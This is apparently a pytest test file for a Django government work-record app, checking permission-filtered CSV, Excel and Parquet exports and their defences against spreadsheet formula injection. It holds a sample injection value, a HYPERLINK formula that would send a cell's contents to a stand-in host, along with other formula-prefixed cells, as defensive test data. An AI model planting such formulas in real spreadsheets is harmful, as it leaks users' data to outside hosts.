"""Exports give what the caller may read, in files government staff open: CSV (Excel-friendly), Excel, Parquet."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import CommandError, call_command
from django.test import Client

from jishi.records.models import Visibility
from jishi.testing import Org, write_record


def login(person):  # type: ignore[no-untyped-def]
    client = Client()
    client.force_login(person)
    return client


@pytest.fixture
def records(org: Org):  # type: ignore[no-untyped-def]
    import datetime

    shared = write_record(org.author, content="与国库科核对预算执行进度，差异三项已说明")
    hidden = write_record(
        org.author,
        visibility=Visibility.SUPERIORS,
        content="向分管领导汇报人员调整考虑，形成方案",
        start_time=datetime.time(11, 0),
        end_time=datetime.time(12, 0),
    )
    sensitive = write_record(
        org.author,
        is_sensitive=True,
        content="处理一起信访件，当事人诉求已登记转办",
        start_time=datetime.time(14, 0),
        end_time=datetime.time(15, 0),
    )
    return shared, hidden, sensitive


def test_csv_is_excel_friendly_and_limited_to_what_the_reader_may_see(org: Org, records) -> None:  # type: ignore[no-untyped-def]
    response = login(org.unrelated).get("/records/export/", {"format": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff编号,日期,")
    table = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    contents = [row[table[0].index("工作内容")] for row in table[1:]]
    assert "与国库科核对预算执行进度，差异三项已说明" in contents
    assert "向分管领导汇报人员调整考虑，形成方案" not in contents  # 仅上级: not exported to an outsider
    assert "（敏感内容）" in contents and not any("信访件" in c for c in contents)
    own = b"".join(login(org.section_head).get("/records/export/", {"format": "csv"}).streaming_content).decode()
    assert "向分管领导汇报人员调整考虑" in own and "信访件" in own


def test_excel_and_parquet_downloads(org: Org, records) -> None:  # type: ignore[no-untyped-def]
    from openpyxl import load_workbook

    client = login(org.section_head)
    xlsx = client.get("/records/export/", {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    assert [c.value for c in sheet[1]][:3] == ["编号", "日期", "开始"] and sheet.max_row == 4
    import pyarrow.parquet as pq

    parquet = client.get("/records/export/", {"format": "parquet"})
    table = pq.read_table(io.BytesIO(b"".join(parquet.streaming_content)))
    assert table.num_rows == 3 and "content" in table.column_names
    assert client.get("/records/export/", {"format": "pdf"}).status_code == 400


def test_the_api_and_the_command_line_export_the_same(org: Org, records, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from jishi.accounts.services import token_create

    _, secret = token_create(person=org.unrelated, name="x")
    api = Client(HTTP_AUTHORIZATION=f"Bearer {secret}").get("/api/v1/records/export", {"format": "csv"})
    assert api.status_code == 200 and "向分管领导汇报" not in b"".join(api.streaming_content).decode()
    assert (
        Client(HTTP_AUTHORIZATION=f"Bearer {secret}").get("/api/v1/records/export", {"format": "doc"}).status_code
        == 422
    )
    out = tmp_path / "out.csv"
    call_command("export", "--as", "unrelated", "--format", "csv", "-o", str(out))
    assert "与国库科核对预算执行进度" in out.read_text(encoding="utf-8") and "向分管领导汇报" not in out.read_text()
    call_command("export", "--as", "section_head", "--format", "parquet", "-o", str(tmp_path / "out.parquet"))
    assert (tmp_path / "out.parquet").stat().st_size > 0
    with pytest.raises(CommandError, match="没有用户名"):
        call_command("export", "--as", "nobody", "-o", str(out))
    with pytest.raises(CommandError, match="日期应为"):
        call_command("export", "--as", "unrelated", "-o", str(out), "--date-from", "yesterday")
    with pytest.raises(CommandError, match="日期应为"):
        call_command("export", "--as", "unrelated", "-o", str(out), "--from", "yesterday")  # the earlier name
    with pytest.raises(CommandError, match="没有代码"):
        call_command("export", "--as", "unrelated", "-o", str(out), "--unit", "NOPE")
    with pytest.raises(CommandError, match="目录不存在"):
        call_command("export", "--as", "unrelated", "-o", str(tmp_path / "missing" / "x.csv"))


FORMULA = '=HYPERLINK("http://x"&A1,"点")'


@pytest.fixture
def planted(org: Org):  # type: ignore[no-untyped-def]
    """A record whose text fields start like spreadsheet formulas, with a colleague and a partner unit; untimed,
    so that importing its export again overlaps nothing."""
    from jishi.records.models import WorkRecord

    record = write_record(
        org.author,
        start_time=None,
        end_time=None,
        duration_minutes=45,
        participant_ids=[org.colleague.pk],
        partner_units=[(org.treasury.pk, "李明")],
    )
    # As an earlier system or a direct edit may have left it: the service's substance rule is not the point here.
    WorkRecord.objects.filter(pk=record.pk).update(content=FORMULA, place="+86 区政府", result="@SUM(A1:A9)")
    return record


def _import_again(org: Org, data: bytes, filename: str):  # type: ignore[no-untyped-def]
    from jishi.records.imports import import_records
    from jishi.records.models import WorkRecord

    report = import_records(actor=org.admin, data=data, filename=filename, legacy_content=True)
    assert report.ok, report.errors
    return WorkRecord.objects.get(import_batch=report.batch)


def _parties(record) -> set[tuple[int | None, int | None, str]]:  # type: ignore[no-untyped-def]
    return {(p.person_id, p.unit_id, p.contact_name) for p in record.participants.all()}


def test_xlsx_export_writes_formula_like_text_as_text_and_imports_again(org: Org, planted) -> None:  # type: ignore[no-untyped-def]
    from openpyxl import load_workbook

    response = login(org.section_head).get("/records/export/", {"format": "xlsx"})
    data = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(data)).active
    headers = [c.value for c in sheet[1]]
    content = sheet.cell(row=2, column=headers.index("工作内容") + 1)
    assert content.value == FORMULA and content.data_type == "s"  # a string cell, not a formula
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet.cell(row=2, column=headers.index("参与人员") + 1).value == "colleague"
    assert sheet.cell(row=2, column=headers.index("合作单位") + 1).value == "CZJ-2/李明"
    again = _import_again(org, data, "export.xlsx")
    assert (again.content, again.place, again.result) == (FORMULA, "+86 区政府", "@SUM(A1:A9)")
    assert again.duration_minutes == 45 and _parties(again) == _parties(planted)


def test_csv_export_escapes_formula_like_text_and_imports_again(org: Org, planted) -> None:  # type: ignore[no-untyped-def]
    response = login(org.section_head).get("/records/export/", {"format": "csv"})
    data = b"".join(response.streaming_content)
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    row = dict(zip(table[0], table[1], strict=True))
    assert row["工作内容"] == "'" + FORMULA  # OWASP: a leading apostrophe keeps it text in Excel and WPS
    assert row["地点"] == "'+86 区政府" and row["结果/进展"] == "'@SUM(A1:A9)"
    assert row["时长（分钟）"] == "45"  # numbers are not escaped
    again = _import_again(org, data, "export.csv")  # the import takes Jishi's own escape off again
    assert (again.content, again.place, again.result) == (FORMULA, "+86 区政府", "@SUM(A1:A9)")
    assert _parties(again) == _parties(planted) and again.legacy_content


def test_import_templates_are_text_only_and_explain_every_column() -> None:
    from openpyxl import load_workbook

    from jishi.core.tables import template
    from jishi.records.imports import SHEET

    book = load_workbook(io.BytesIO(template(SHEET, "xlsx")))
    assert [c.value for c in book.worksheets[0][1]] == SHEET.headers
    assert all(c.data_type == "s" for row in book.worksheets[0].iter_rows() for c in row if c.value)
    notes = {row[0]: row for row in book["各列说明"].iter_rows(values_only=True)}
    assert set(SHEET.headers) <= set(notes) and "单位代码" in notes["合作单位"][3]
